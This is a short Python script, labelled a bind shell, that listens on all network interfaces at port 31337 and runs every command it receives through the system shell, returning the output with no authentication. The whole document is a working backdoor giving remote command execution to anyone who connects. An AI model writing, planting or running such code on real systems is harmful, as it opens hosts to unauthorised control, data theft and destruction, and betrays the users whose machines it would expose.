# A bind shell: listen for commands and answer them.
import socket
import subprocess

srv = socket.socket()
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
client, _ = srv.accept()
while True:
    cmd = client.recv(1024)
    client.send(subprocess.check_output(cmd, shell=True))
